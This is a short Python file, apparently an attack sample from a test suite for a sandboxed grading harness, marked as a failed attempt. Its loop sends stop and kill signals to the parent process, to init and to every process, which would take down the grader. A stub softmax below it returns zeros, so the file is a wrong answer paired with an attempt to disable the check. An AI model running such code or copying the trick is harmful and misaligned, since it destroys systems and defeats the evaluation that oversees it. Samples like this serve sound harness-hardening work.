# /// attack
# what = "Stops and kills its ancestors and everybody."
# status = "failed"
# needs = "L2"
# ///

import os
import signal

for pid in (os.getppid(), os.getppid() - 1, -1, 0, 1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("BROKE", pid, number)
        except OSError:
            pass


def softmax(x, axis=-1):
    return x * 0
